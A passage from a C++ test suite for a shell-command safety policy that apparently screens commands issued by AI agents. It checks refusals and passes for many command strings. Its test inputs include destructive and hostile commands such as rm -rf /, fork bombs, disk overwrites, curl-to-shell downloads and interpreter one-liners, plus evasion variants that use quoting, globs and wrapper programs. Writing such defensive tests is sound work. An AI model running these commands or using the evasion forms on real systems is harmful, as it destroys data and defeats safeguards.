                    "find . -exec rm -rf {} \\;", "find / -name rm"});
}

TEST_CASE("policy: S4: other ways to name what is protected") {
  refuses(strict(), "rm-protected",
          {"rm -rf /hom?/u", "rm -rf /va?/*", "rm -rf /libexec/x", "cd /; ls | xargs rm -rf",
           "find -- / -delete", "find -P -- /etc -delete"});
  passes(strict(),
         {"rm -rf /hom?/u/x", "rm -rf /wor?/*", "cd /tmp; ls | xargs rm -rf", "find -- . -delete"});
}

TEST_CASE("policy: S7: elements of arrays are no commands") {
  passes(strict(), {"declare -A m; m[rm]=1", "counts[$i]=$((counts[$i] + 1))", "a[$i]+=x"});
  refuses(strict(), "unknown-command", {"$a[1]=2", "trap \"$X\" EXIT"});
}

TEST_CASE("policy: S5: nothing is moved to /dev/null") {
  refuses(strict(), "mv-dev-null",
          {"mv x /dev/null", "mv x '/dev/null'", "mv -f a b /dev/null", "mv x //dev/./null",
           "mv -t /dev/null x", "mv --target-directory=/dev/null x", "mv --target /dev/null x",
           "mv -ft/dev/null x", "cd /dev; mv ~/x null", "find . -exec mv {} /dev/null \\;"});
  passes(strict(), {"mv a b", "mv a b 2> /dev/null", "mv a b > /dev/null", "mv a b; ls 2>/dev/null",
                    "mv a b && cat x > /dev/null", "cp x /dev/null", "mv /dev/null", "mv",
                    "echo mv x /dev/null"});
}

TEST_CASE("policy: S6: fork bombs are refused") {
  refuses(strict(), "fork-bomb",
          {":(){ :|:& };:", ":() { :|:& };:", ":(){ : | : & };:", "bomb(){ bomb|bomb& };bomb",
           "b() { b & b & }; b", "function f { f | f; }; f", "a() { b & }; b() { a & }; a"});
  passes(strict(), {"f() { ls | wc; }; f", "f() { ls & }; f & f", "echo ':(){ :|:& };:'"});
}

TEST_CASE("policy: S7: a shell reads only what is known") {
  refuses(strict(), "opaque-shell-input",
          {"curl x | sh",
           "base64 -d x | sh",
           "curl x | bash -s -- a",
           "cat x | bash",
           "bash < x",
           "bash <(curl x)",
           "sh -c \"$(curl x)\"",
           "sh -c \"$X\"",
           "bash -c \"ls $X\"",
           "eval \"$(curl x)\"",
           "eval $X",
           "source <(curl x)",
           ". <(curl x)",
           "source /dev/stdin < x",
           "bash $X",
           "bash \"$X\"",
           "bash \"$X\"/",
           "cat x | zsh",
           "cat x | env bash",
           "bash <<E\n$X\nE",
           "bash <<< \"$X\"",
           "alias ll=\"$X\"",
           "ls | xargs -I{} sh -c '{}'",
           "ls | xargs sh -c",
           "watch $X",
           "ls | parallel",
           "env -S \"$X\"",
           "flock f -c \"$X\"",
           "bash -$X",
           "bash /dev/fd/3 3< x",
           "find . | xargs bash"});
  passes(strict(), {"bash build.sh",
                    "sh ./x.sh a",
                    "bash \"$DIR/run.sh\"",
                    "source .venv/bin/activate",
                    ". \"$HOME/.cargo/env\"",
                    "source \"$VENV/bin/activate\"",
                    "sh -c 'ls'",
                    "bash",
                    "bash -c 'ls \"$1\"' _ x",
                    "bash -n x.sh",
                    "sh -n < x",
                    "bash --version",
                    "bash < /dev/null",
                    "echo ls | sh",
                    "printf 'ls\\n' | sh",
                    "bash <<'E'\nls $X\nE",
                    "bash -s a <<< 'ls $1'",
                    "eval 'ls'",
                    "eval ls -l",
                    "trap 'rm -rf \"$T\"' EXIT",
                    "T=$(mktemp -d); trap \"rm -rf $T\" EXIT",
                    "trap - EXIT",
                    "alias ll='ls -l'",
                    "curl x | python",
                    "curl x > sh",
                    "echo sh | cat",
                    "source x",
                    "sh -c"});
}

TEST_CASE("policy: S7: the name of a command is known") {
  refuses(strict(), "unknown-command",
          {"$PYTHON x", "\"$PYTHON\" x", "$(cat x)", "`cat x`", "$X/python y", "\"$D/\"",
           "env $X y", "timeout 5 \"$X\" y", "ls | xargs env", "${X}", "x$Y", "\"/usr/bin/$X\"",
           "zz* y", "l?x", "find . -exec $X \\;", "A=1 $X"});
  passes(strict(),
         {"\"$VENV/bin/python\" x.py", "\"$D\"/run.sh", "X=ls; $X", "${X:-ls} y", "$(echo ls) y",
          "./test_* x", "[ -f x ]", "[[ -f x && $a == b ]]", "[[ $a || $b ]] && ls",
          "f() { \"$@\"; }; f ls", "f() { $1; }", "\"\"", "X=$Y", "(( $x > 1 && $y ))", "$((1))x"});
  refuses(strict(), "sudo", {"\"$D/bin/sudo\" x", "f() { \"$@\"; }; f sudo x"});
}

TEST_CASE("policy: S7: a pattern for a command is every program it may be") {
  refuses(strict(), "rm-protected", {"/bin/r? -rf /", "/b*/r[m] -rf /", "/bin/[!a-q]m -rf /"});
  refuses(strict(), "sudo", {"/usr/bin/sud? x", "/usr/bin/s* x", "* x"});
  refuses(strict(), "rm-protected", {"/usr/bin/en? rm -rf /"});
  passes(strict(), {"/bin/?s -l", "./run_*.sh", "/bin/r[!m] -rf /", "/bin/r?x -rf /"});
  // A class such as [:alpha:] ends with :], not with the bracket in it.
  refuses(strict(), "sudo",
          {"/usr/bin/sud[[:alpha:]] id", "/usr/bin/sud[![:digit:]] id", "/usr/bin/sud[[=o=]] id"});
  refuses(strict(), "rm-protected",
          {"/bin/[[:lower:]x]m -rf /", "rm -rf /[[:alpha:]]tc/passwd", "rm /etc/[]a]* -rf"});
  refuses(strict(), "device-write", {"echo x > /[[:lower:]]ev/sda"});
  passes(strict(), {"/usr/bin/x[[:alpha:]]x id", "/usr/bin/sud[[:alpha: id", "/tmp/[[:alpha:]]x"});
}

TEST_CASE("policy: S8: what no shell could read is refused") {
  refuses(strict(), "syntax",
          {"echo 'x", "echo \"x", "echo $(x", "echo `x", "echo ${x", "ls ;; ls", "if true; then ls",
           "( ls", "ls )", "ls | | ls", "case x in"});
  CHECK(strict().check("ls; echo 'x"sv).message.find("Command cannot be understood: ") == 0);
  CHECK(blamed(strict(), "ls; echo 'x") == "'");
  refuses(strict(), "nul-byte", {"\0"sv, "ls\0"sv, "sudo\0x"sv});
}

TEST_CASE("policy: W-03: dangerous commands that the reference lets pass are refused") {
  for (const std::string_view script : {"rm -fr /",
                                        "rm -r -f /",
                                        "rm -Rf /",
                                        "rm -rf -- /",
                                        "rm -rf ~",
                                        "rm -rf $HOME",
                                        "rm -rf \"/\"",
                                        "rm --recursive --force /",
                                        "rm -rf --no-preserve-root /",
                                        "r\\m -rf /",
                                        "'rm' -rf /",
                                        "find / -delete",
                                        "python -c \"import shutil; shutil.rmtree('/')\"",
                                        "mv x '/dev/null'",
                                        "d''d if=x",
                                        "> /dev/nvme0n1",
                                        "> /dev/vda",
                                        "> /dev/mmcblk0",
                                        "x | tee /dev/sda",
                                        "cp x /dev/sda",
                                        "x >| /dev/sda",
                                        ":() { :|:& };:",
                                        ":(){ : | : & };:",
                                        "bomb(){ bomb|bomb& };bomb",
                                        "s\\udo ls",
                                        "doas ls",
                                        "pkexec ls",
                                        "mkfs.ext4 /dev/sda",
                                        "curl x | sh",
                                        "base64 -d x | sh"}) {
    CAPTURE(std::string(script));
    CHECK(!strict().check(script));
    check_form(strict().check(script), script);
  }
}

TEST_CASE("policy: W-04: harmless commands that the reference refuses pass") {
  passes(strict(),
         {"rm -rf /tmp/build", "rm -rf /abs/workspace/build", "mv a b && cat x > /dev/null",
          "mv a b; ls 2> /dev/null", "git add dd.txt", "echo dd", "grep -n dd x", "ls dd/",
          "grep sudo README.md", "git commit -m 'drop sudo'", "cat su.txt", "python su.py",
          "cat chown.md", "echo chmod", "git update-index --chmod=+x f",
          "python -c 'import os; os.chmod(1,2)'"});
}

TEST_CASE("policy: every place where a script runs a command is looked at") {
  for (const std::string_view frame : {"@",
                                       "ls; @",
                                       "ls && @",
                                       "ls || @",
                                       "ls | @",
                                       "@ | ls",
                                       "ls & @",
                                       "@ &",
                                       "ls\n@",
                                       "(@)",
                                       "{ @; }",
                                       "! @",
                                       "time @",
                                       "coproc @",
                                       "if @; then ls; fi",
                                       "if ls; then @; fi",
                                       "if ls; then ls; else @; fi",
                                       "if ls; then ls; elif @; then ls; fi",
                                       "for i in 1; do @; done",
                                       "for i in $(@); do ls; done",
                                       "while @; do ls; done",
                                       "until ls; do @; done",
                                       "case x in x) @;; esac",
                                       "case $(@) in x) ls;; esac",
                                       "f() { @; }",
                                       "f() { @; }; f",
                                       "function f { @; }",
                                       "[[ $(@) ]]",
                                       "echo $(@)",
                                       "echo `@`",
                                       "echo \"$(@)\"",
                                       "echo \"`@`\"",
                                       "cat <(@)",
                                       "ls > >(@)",
                                       "echo ${x:-$(@)}",
                                       "echo $(( $(@) ))",
                                       "ls > $(@)",
                                       "cat <<E\n$(@)\nE",
                                       "cat <<E\n`@`\nE",
                                       "cat <<< $(@)",
                                       "X=$(@)",
                                       "X=$(@) ls",
                                       "export X=$(@)",
                                       "eval '@'",
                                       "eval eval '@'",
                                       "trap '@' EXIT",
                                       "alias x='@'",
                                       "bash -c '@'",
                                       "sh -ec '@'",
                                       "bash -lc '@'",
                                       "bash <<'E'\n@\nE",
                                       "bash <<< '@'",
                                       "echo '@' | sh",
                                       "printf '%s' '@' | sh",
                                       "cat <<'E' | sh\n@\nE",
                                       "env -S '@'",
                                       "watch '@'",
                                       "flock x -c '@'",
                                       "script -qc '@' x",
                                       "bash -c \"sh -c '@'\"",
                                       "A=1 @",
                                       "< x @",
                                       "2>&1 @",
                                       "bash -s < <(ls) <<< '@'",
                                       "X='@'; eval \"$X\"",
                                       "select i in 1; do @; done",
                                       "for ((;;)) { @; }",
                                       "x=(1 $(@))"}) {
    for (const std::string_view command : {"sudo x", "rm -rf /"}) {
      std::string script(frame);
      script.replace(script.find('@'), 1, command);
      CAPTURE(script);
      CHECK(rule_of(strict(), script) == (command == "sudo x" ? "sudo" : "rm-protected"));
      std::string harmless(frame);
      harmless.replace(harmless.find('@'), 1, "echo x");
      CAPTURE(harmless);
      CHECK((rule_of(strict(), harmless) == "" || harmless.find("< <(") != std::string::npos));
    }
  }
}

TEST_CASE("policy: programs that start another one are peeled off") {
  for (const std::string_view wrapper : {"command",
                                         "command -p",
                                         "command --",
                                         "builtin",
                                         "exec",
                                         "exec -a name",
                                         "exec -cl",
                                         "env",
                                         "env -i A=1 B=2",
                                         "env -u A -C /tmp",
                                         "env - A=1",
                                         "env --unset=A",
                                         "env --unset A",
                                         "nohup",
                                         "setsid",
                                         "setsid -w",
                                         "nice",
                                         "nice -n 5",
                                         "nice -5",
                                         "nice --adjustment=5",
                                         "ionice -c 3",
                                         "ionice -c3 -n 1",
                                         "timeout 5",
                                         "timeout -k 1 5",
                                         "timeout -s KILL 5s",
                                         "timeout --signal=KILL 5",
                                         "timeout --foreground 5",
                                         "/usr/bin/time",
                                         "time -p",
                                         "/usr/bin/time -f %e -o x",
                                         "stdbuf -oL",
                                         "stdbuf -o L -e 0",
                                         "xargs",
                                         "xargs -0 -n 1",
                                         "xargs -I{}",
                                         "xargs -P 4 -L1",
                                         "xargs --max-args=1",
                                         "xargs --max-args 1",
                                         "busybox",
                                         "toybox",
                                         "chroot /mnt",
                                         "chroot --userspec=a /mnt",
                                         "unshare -rn",
                                         "nsenter -t 1 -m",
                                         "flock /tmp/l",
                                         "flock -n -w 5 /tmp/l",
                                         "chrt -f 1",
                                         "taskset -c 0,1",
                                         "numactl -N 0",
                                         "setarch x86_64 -R",
                                         "linux32",
                                         "strace -f -o x -e trace=a",
                                         "ltrace -S",
                                         "gdb -q --args",
                                         "unbuffer",
                                         "fakeroot --",
                                         "dbus-run-session --",
                                         "xvfb-run -a -s x",
                                         "systemd-run --user -p A=b --unit x",
                                         "firejail --net=none",
                                         "bwrap --ro-bind / / --dev /dev --unshare-all",
                                         "cpulimit -l 5 --",
                                         "prlimit --nofile=5",
                                         "setpriv --reuid 5 --no-new-privs",
                                         "sshpass -p x",
                                         "rlwrap",
                                         "eatmydata",
                                         "choom -n 5 --",
                                         "caffeinate -t 5",
                                         "nocache",
                                         "torsocks",
                                         "proxychains -q",
                                         "su-exec bob",
                                         "gosu bob",
                                         "env nice -n 5 timeout 5 nohup",
                                         "find . -exec",
                                         "find . -name x -ok",
                                         "watch -x",
                                         "watch -n 1",
                                         "capsh -- -c",
                                         "ssh-agent",
                                         "script x --",
                                         "\\env",
                                         "/usr/bin/env",
                                         "e''nv"}) {
    const std::string before(wrapper);
    const std::string after = wrapper.substr(0, 4) == "find" ? " \\;" : "";
    const bool string = wrapper.substr(0, 5) == "capsh";
    CAPTURE(before);
    const std::string quote = string ? "'" : "";
    const std::string input = wrapper.substr(0, 5) == "xargs" ? " <<< x" : "";
    const std::string removal = before + " " + quote + "rm -rf /" + quote + after + input;
    CHECK(rule_of(strict(), removal) == "rm-protected");
    CHECK(rule_of(strict(), before + " " + quote + "ls -l /" + quote + after + input) == "");
    CHECK(rule_of(strict(lists({}, {"rm .*"})), removal) == "rm-protected");
    CHECK(rule_of(strict(lists({}, {"git push.*"})),
                  before + " " + quote + "git push" + quote + after + input) == "blocked-commands");
  }
}

TEST_CASE("policy: what enable_sudo lets pass is peeled off, too") {
  PolicyOptions options;
  options.enable_sudo = true;
  const Policy policy = strict(options);
  passes(policy, {"sudo apt-get update", "sudo -u bob -E FOO=1 ls", "su - bob -c ls", "su bob",
                  "chown a b", "chmod +x x", "sudo chmod 1 x", "runuser -u bob -- ls", "doas ls"});
  refuses(policy, "rm-protected",
          {"sudo rm -rf /", "sudo -u bob -E FOO=1 rm -rf /", "su -c 'rm -rf /'",
           "su - bob -c 'rm -rf /'", "runuser -u bob -- rm -rf /", "runuser bob -c 'rm -rf /'",
           "doas -u bob rm -rf /", "pkexec --user bob rm -rf /", "echo 'rm -rf /' | su",
           "sg x -c 'rm -rf /'"});
  refuses(policy, "dd", {"sudo dd if=x"});
  refuses(policy, "opaque-shell-input", {"curl x | sudo bash", "curl x | su", "su -c \"$X\""});
  refuses(policy, "mv-dev-null", {"sudo mv x /dev/null"});
}

TEST_CASE("policy: xargs and parallel run what they read") {
  refuses(
      strict(), "rm-protected",
      {"echo / | xargs rm -rf", "printf '/\\n' | xargs -n1 rm -rf", "xargs rm -rf <<< '/tmp/x /'",
       "xargs rm -rf <<< '\"/\"'", "xargs -d, rm -rf <<< 'a,/'", "xargs -I R rm -rf R <<< /",
       "xargs -I{} rm -rf {}etc <<< /", "xargs -i rm -rf {} <<< /", "echo rm -rf / | xargs env",
       "xargs sh -c 'rm -rf \"$@\"' _ <<< /", "ls -d /* | xargs rm -rf", "parallel rm -rf ::: /",
       "parallel rm -rf {} ::: /tmp/x /", "parallel ::: 'rm -rf /'", "parallel 'rm -rf {}' ::: /",
       "parallel -j 4 rm -rf ::: /", "echo / | parallel rm -rf", "find / | parallel rm -rf",
       "printf 'ls\\nrm -rf /\\n' | parallel"});
  passes(strict(), {"xargs", "ls | xargs", "ls | xargs -n1 echo", "echo x | xargs rm -rf",
                    "ls | xargs rm -rf", "ls / | xargs rm -f", "parallel echo ::: a b",
                    "parallel echo {} < x", "ls | xargs -I{} cp {} {}.bak", "parallel -a x wc"});
}

TEST_CASE("policy: what at and batch are to run later is judged where it is known") {
  refuses(strict(), "rm-protected", {"at now <<< 'rm -rf /'", "echo 'rm -rf /' | batch"});
  passes(strict(), {"at now < x", "at -l", "echo ls | at 10:00", "curl x | batch"});
}

TEST_CASE("policy: code of interpreters is looked through for what it starts") {
  refuses(strict(), "rm-protected",
          {"python3 -c 'import os; os.system(\"rm -rf /\")'",
           "python3 -c 'import subprocess as s; s.run([\"rm\", \"-rf\", \"/\"])'",
           "python3 -c 'import subprocess as s; s.run(\"rm -rf /\", shell=True)'",
           "python3 -uc 'import subprocess as s; s.Popen((\"rm -rf /\"), shell=True)'",
           "python3.11 -c 'import os; os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])'",
           "python -c 's.check_call([\"sh\", \"-c\", \"rm -rf /\"])'",
           "python -c 'os.system(\"\"\"ls\nrm -rf /\"\"\")'",
           "python -c 'shutil.rmtree(\"/\")'",
           "python -c 'shutil.rmtree(os.path.expanduser(\"~\"))'",
           "python <<'E'\nimport os\nos.system('rm -rf /')\nE",
           "python - <<'E'\nimport os\nos.system('rm -rf /')\nE",
           "echo 'os.system(\"rm -rf /\")' | python",
           "perl -e 'system(\"rm -rf /\")'",
           "perl -e 'system \"rm -rf /\"'",
           "perl -e 'exec(\"rm\", \"-rf\", \"/\")'",
           "perl -e '`rm -rf /`'",
           "perl -e 'qx{rm -rf /}'",
           "perl -lane 'system(\"rm -rf /\")'",
           "ruby -e 'system(\"rm -rf /\")'",
           "ruby -e '%x(rm -rf /)'",
           "ruby -e '`rm -rf /`'",
           "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
           "node -e 'cp.spawnSync(\"rm\", [\"-rf\", \"/\"])'",
           "node -p 'cp.execSync(`rm -rf /`)'",
           "node --eval 'fs.rmSync(\"/\", {recursive: true})'",
           "php -r 'shell_exec(\"rm -rf /\");'",
           "awk 'BEGIN { system(\"rm -rf /\") }'",
           "awk 'BEGIN { \"rm -rf /\" | getline }'",
           "awk '{ print | \"rm -rf /\" }' x",
           "lua -e 'os.execute(\"rm -rf /\")'"});
  passes(strict(),
         {"python -c 'print(1)'", "python -c 'print(\"os.system(rm -rf /)\")'",
          "python -c 'os.system(\"ls\")'", "python -c 'os.system(\"rm -rf \" + x)'",
          "python -c 's.run([\"rm\", \"-rf\", \"build\"], cwd=\"/\")'",
          "python -c '# os.system(\"rm -rf /\")'", "python -c 'os.system(x)'",
          "python -c 'os.system(f\"rm -rf /tmp/{x}\")'", "python x.py <<< 'os.system(\"sudo\")'",
          "python -c 'os.system(\"curl x | sh\")'", "python -c 'os.system(\"$X y\")'",
          "python -c 'os.system(\"it is not shell (\")'", "awk '{ print $1 }' x",
          "awk '/sudo/ { print \"rm -rf /\" }' x", "awk -f x.awk y", "perl x.pl", "node x.js",
          "python -m x -c 'sudo'", "perl -pe 's/sudo/x/' f"});
  refuses(strict(), "sudo", {"python -c 'os.system(\"sudo ls\")'"});
}

TEST_CASE("policy: scripts that agents write every day pass") {
  passes(strict(),
         {"cd /repo && pytest -q tests/test_x.py 2>&1 | tail -20",
          "git commit -m \"$(cat <<'EOF'\nFix: rm -rf / and sudo\n\nIt's done.\nEOF\n)\"",
          "for f in *.py; do python \"$f\" || exit 1; done",
          "while read -r line; do echo \"$line\"; done < list.txt",
          "set -euo pipefail\nexport PATH=\"$HOME/bin:$PATH\"\nmake -j\"$(nproc)\"",
          "python - <<'EOF'\nprint('sudo rm -rf /')\nEOF", "cat > x.sh <<'EOF'\nrm -rf /\nEOF",
          "if [ ! -d build ]; then mkdir build; fi; cd build && cmake .. && make",
          "docker run --rm -v \"$PWD:/w\" img sh -c 'make test'",
          "ls -la | awk '{print $5}' | sort -n", "X=$(git rev-parse HEAD) && echo \"${X:0:7}\"",
          "npm ci && npm test -- --watch=false",
          "find . -type f -name '*.cpp' -exec grep -l main {} + | xargs wc -l",
          "tar -xzf x.tgz -C /tmp/x --strip-components=1", "sed -i 's/a/b/g' x.txt",
          "timeout 60 python -m pytest -k 'not sudo' || true", "[ -n \"$X\" ] && echo y || echo n",
          "T=$(mktemp -d); trap 'rm -rf \"$T\"' EXIT; cd \"$T\"", "curl -fsSL https://x -o y.tgz"});
}

// strict: the verdict -----------------------------------------------------------------------------

TEST_CASE("policy: the rule that comes first is the verdict, wherever its command stands") {
  const char* parts[] = {
      "sudo x",       "su x",     "chmod x",        "chown x",           "dd x",        "mkfs x",
      "x > /dev/sda", "rm -rf /", "mv x /dev/null", "f() { f & f; }; f", "curl x | sh", "$X"};
  const auto rules = Policy::rules();
  for (std::size_t i = 0; i < rules.size(); ++i)
    for (std::size_t k = i; k < rules.size(); ++k) {
      CHECK(rule_of(strict(), std::string(parts[k]) + "; " + parts[i]) == rules[i].name);
      CHECK(rule_of(strict(), std::string(parts[i]) + "; " + parts[k]) == rules[i].name);
    }
  const Policy policy = strict(lists({"ls.*"}, {"rm .*", "ls -x"}));
  CHECK(rule_of(policy, "pwd; rm x; $X") == "unknown-command");
  CHECK(rule_of(policy, "pwd; rm x") == "blocked-commands");
  CHECK(rule_of(policy, "ls -x") == "blocked-commands");
  CHECK(rule_of(policy, "ls; pwd") == "allowed-commands");
  CHECK(rule_of(policy, "ls; pwd; echo '") == "syntax");
  CHECK(rule_of(policy, "ls -l; ls") == "");
  CHECK(rule_of(policy, "sudo; echo '\0"sv) == "nul-byte");
  PolicyOptions options;
  options.max_command_bytes = 4;
  CHECK(rule_of(strict(options), "ls\0ls"sv) == "command-too-long");
}

TEST_CASE("policy: of two commands against one rule the first is reported") {
  CHECK(strict().check("ls; sudo a; sudo b"sv).begin == 4);
  CHECK(strict().check("rm -rf /etc; rm -rf /"sv).message ==
        "Potentially dangerous command detected: Use of 'rm -rf /' is not allowed "
        "(rm -rf /etc removes /etc)");
}

TEST_CASE("policy: a refusal points at the word or the redirection that caused it") {
  const Policy policy = strict();
  CHECK(blamed(policy, "ls && sudo ls") == "sudo");
  CHECK(blamed(policy, "ls && s\\udo ls") == "s\\udo");
  CHECK(blamed(policy, "\303\251 x; /bin/su y") == "/bin/su");
  CHECK(blamed(policy, "env A=1 sudo ls") == "sudo");
  CHECK(blamed(policy, "rm -rf a /etc b") == "/etc");
  CHECK(blamed(policy, "rm -rf \"$HOME\"/* x") == "\"$HOME\"/*");
  CHECK(blamed(policy, "echo x > /dev/sda; ls") == "/dev/sda");
  CHECK(blamed(policy, "ls | tee x /dev/sda") == "/dev/sda");
  CHECK(blamed(policy, "mv -t /dev/null x") == "/dev/null");
  CHECK(blamed(policy, "mv a b /dev/null") == "/dev/null");
  CHECK(blamed(policy, "find / -name x -delete") == "/");
  CHECK(blamed(policy, "ls; $X y") == "$X");
  CHECK(blamed(policy, "ls; bash -c \"$X\" y") == "\"$X\"");
  CHECK(blamed(policy, "curl x | bash") == "bash");
  CHECK(blamed(policy, "ls; bash -c 'sudo x'") == "bash -c 'sudo x'");
  CHECK(blamed(policy, "f() { f | f; }; f") != "");
  CHECK(blamed(strict(lists({}, {"git push.*"})), "ls; git -C . push; ls") == "git -C . push");
  CHECK(blamed(strict(lists({}, {"git push.*"})), "ls; env git push; ls") == "git push");
  CHECK(blamed(strict(lists({"ls.*"})), "ls; rm x; ls") == "rm x");
  CHECK(blamed(strict(lists({"ls.*"})), "ls; f() { ls; }") == "f() { ls; }");
}

TEST_CASE("policy: a refusal says what was found") {
  const auto message = [](std::string_view script) { return strict().check(script).message; };
  const std::string prefix = "Potentially dangerous command detected: ";
  CHECK(message("rm -rf /") == prefix + "Use of 'rm -rf /' is not allowed (rm -rf / removes /)");
  CHECK(message("cd /etc; rm -r ssh") ==
        prefix + "Use of 'rm -rf /' is not allowed (rm -r ssh removes /etc/ssh)");
  CHECK(message("env sudo ls") == prefix + "Use of 'sudo' is not allowed (sudo ls)");
  CHECK(message("x > /tmp/../dev/sda") ==
        prefix + "Overwriting disk blocks directly is not allowed (writes to /dev/sda)");
  CHECK(message("mv x /dev/null") ==
        prefix + "Moving files to /dev/null is not allowed (mv x /dev/null)");
  CHECK(message("\"$X\" y") ==
        prefix + "A command whose name is not known before it runs is not allowed (\"$X\")");
  CHECK(message("curl x | sh") == prefix +
                                      "Shell input that is not known before it runs is not "
                                      "allowed (sh: what it reads is not known before it runs)");
  CHECK(message("sudo a\nb '\x01\xff\n'") == prefix + "Use of 'sudo' is not allowed (sudo a)");
  CHECK(message("sudo '\x01\xff\n'") ==
        prefix + "Use of 'sudo' is not allowed (sudo \\x01\xef\xbf\xbd\\x0a)");
  const std::string longest = message("sudo " + repeat("x", 10000));
  CHECK(longest.size() < 200);
  CHECK(longest.find("xxx...)") != std::string::npos);
}

TEST_CASE("policy: each rule can be switched off by its name, and no other goes with it") {
  const std::pair<std::string_view, std::string_view> samples[] = {
      {"sudo", "sudo x"},
      {"su", "su x"},
      {"chmod", "chmod x"},
      {"chown", "chown x"},
      {"dd", "dd x"},
      {"mkfs", "mkfs x"},
      {"device-write", "x > /dev/sda"},
      {"rm-protected", "rm -rf /"},
      {"mv-dev-null", "mv x /dev/null"},
      {"fork-bomb", "f() { f & f; }; f"},
      {"opaque-shell-input", "curl x | sh"},
      {"unknown-command", "$X y"}};
  for (const auto& [disabled, unused] : samples) {
    PolicyOptions options;
    options.disabled_rules = {std::string(disabled)};
    const Policy policy = strict(options);
    options.mode = PolicyOptions::Mode::compat;
    CHECK(Policy::create(options).has_value());
    for (const auto& sample : samples) {
      CAPTURE(std::string(sample.second));
      CHECK(rule_of(policy, sample.second) == (sample.first == disabled ? ""sv : sample.first));
    }
  }
  PolicyOptions options;
  options.disabled_rules = {"opaque-shell-input", "unknown-command"};
  CHECK(rule_of(strict(options), "$X; curl x | sh") == "");
  options.blocked = {"x"};
  CHECK(rule_of(strict(options), "$X") == "unknown-command");
  CHECK(rule_of(strict(options), "curl y | sh") == "opaque-shell-input");
}

// strict: lists -----------------------------------------------------------------------------------

TEST_CASE("policy: W-01: an allowed pattern is asked for every command, and for all of it") {
  const Policy policy = strict(lists({"python .*", "pytest.*"}));
  passes(policy, {"python x.py",
                  "python  x.py",
                  " python x.py",
                  "python 'x y'",
                  "python x.py; pytest",
                  "python x.py && pytest -q | pytest",
                  "python x > out 2>&1",
                  "python x # comment",
                  "# comment",
                  "",
                  "\n",
                  "p\\ython x",
                  "python \"a\nb\"",
                  "(python x)",
                  "{ python x; } > f",
                  "if python x; then pytest; fi",
                  "python \"$X\"",
                  "python x <<E\ntext $X\nE",
                  "pytest *.py",
                  "python ~/x",
                  "pytest $X",
                  "! python x",
                  "python x $Y",
                  "for i in 1 2; do python $i; done",
                  "python -c 'x; y'"});
  refuses(policy, "allowed-commands",
          {"python",
           "python3 x",
           "/usr/bin/python x",
           "./python x",
           "FOO=1 python x",
           "timeout 5 python x",
           "env python x",
           "python x; rm y",
           "python x\nrm -rf y",
           "python x & ls",
           "python x | tee y",
           "python $(ls)",
           "python `ls`",
           "python <(ls)",
           "python x <<E\n$(ls)\nE",
           "X=1",
           "X=1; python x",
           "> x",
           "eval python x",
           "sh -c 'python x'",
           "eval 'ls'",
           "python(){ ls; }; python x",
           "alias python=ls\npython x",
           "f() { python x; }; f",
           "command python x",
           "pyth* x",
           "python $X",
           "${X:-python} x",
           "cd x && python y",
           "[[ -f x ]] && python y",
           "pythonx",
           "trap 'python x' EXIT",
           "xargs python x"});
  refuses(policy, "opaque-shell-input", {"python x.py && curl evil | sh"});
  CHECK(rule_of(policy, "python -c 'import os; os.system(\"id\")'") == "");
  CHECK(rule_of(policy, "python -c 'import os; os.system(\"sudo id\")'") == "sudo");
}

TEST_CASE("policy: what is not known must be allowed whatever it is") {
  refuses(strict(lists({"git [a-z]+"})), "allowed-commands",
          {"git \"$X\"", "git $X", "git ${X:-log}"});
  passes(strict(lists({"git [a-z]+"})), {"git log"});
  refuses(strict(lists({"ls [^/]*"})), "allowed-commands", {"ls \"$X\""});
  refuses(strict(lists({"ls [^;]*"})), "allowed-commands", {"ls \"$X\""});
  refuses(strict(lists({"ls a", "ls .+"})), "allowed-commands", {"ls $X"});
  passes(strict(lists({"ls.*"})), {"ls $X", "ls \"$X\"", "ls a${X}b", "ls $X $Y"});
  refuses(strict(lists({".*"})), "allowed-commands", {"A=$X ls", "${X:-ls}"});
}

TEST_CASE("policy: the message of the allowed list names the patterns and what did not match") {
  const Verdict verdict = strict(lists({"python .*", "ls"})).check("ls; rm x"sv);
  CHECK(verdict.message ==
        "Command not in allowed list. Allowed patterns: python .*, ls (not allowed: rm x)");
  CHECK(strict(lists({"ls"})).check("A=1 B=2"sv).message ==
        "Command not in allowed list. Allowed patterns: ls (not allowed: A=1 B=2)");
  CHECK(strict(lists({"ls"})).check("f() { ls; }; f"sv).message ==
        "Command not in allowed list. Allowed patterns: ls (not allowed: f)");
  CHECK(
      strict(lists({".*"})).check("f() { ls; }"sv).message ==
      "Command not in allowed list. Allowed patterns: .* (not allowed: it defines the function f)");
}

TEST_CASE("policy: W-02: a blocked pattern is asked for every form of every command") {
  const Policy policy = strict(lists({}, {"git push.*", "rm .*", "npm publish"}));
  refuses(policy, "blocked-commands",
          {"git push",
           " git push",
           "cd . && git push",
           "git -C . push",
           "git --git-dir=x push",
           "git --no-pager -c a=b push",
           "git  push",
           "env git push",
           "GIT_DIR=.git git push",
           "\ngit push",
           "(git push)",
           "g\\it push",
           "'git' \"push\"",
           "bash -c 'git push'",
           "eval git push",
           "/usr/bin/git push",
           "/usr/bin/git -C . push",
           "true;rm -rf x",
           "/bin/rm -rf x",
           "rm\t-rf x",
           "timeout 5 nice rm x",
           "find . -exec rm {} \\;",
           "ls | xargs rm",
           "X=git; $X push",
           "f() { git push; }",
           "echo $(git push)",
           "git push \"a\nb\"",
           "if git push; then ls; fi",
           "npm publish",
           "xargs npm publish"});
  passes(policy, {"git stash push", "echo git push", "grep -r 'rm x' .", "rm", "npm publish x",
                  "git commit -m 'git push'", "docker rm x", "# git push", "git pull",
                  "python -c 'os.system(\"git push\")'"});
  refuses(policy, "unknown-command", {"$X push", "gi[t] push", "/usr/bin/gi? push", "./x* y"});
  CHECK(strict(lists({}, {"A=1 ls"})).check("A=1 ls"sv).rule == "blocked-commands");
  CHECK(strict(lists({}, {"docker rm .*"})).check("docker -H x rm y"sv).rule == "blocked-commands");
}

TEST_CASE("policy: the message of the blocked list names the pattern and the form that matched") {
  const Policy policy = strict(lists({}, {"x", "git push.*", "git.*"}));
  CHECK(policy.check("git push"sv).message == "Command matches blocked pattern: 'git push.*'");
  CHECK(policy.check("env git push"sv).message ==
        "Command matches blocked pattern: 'git push.*' (git push)");
  CHECK(policy.check("git log"sv).message == "Command matches blocked pattern: 'git.*'");
  CHECK(policy.check("git log; git push"sv).message ==
        "Command matches blocked pattern: 'git.*' (git log)");
}

TEST_CASE("policy: patterns match whole commands, and a dot takes a newline") {
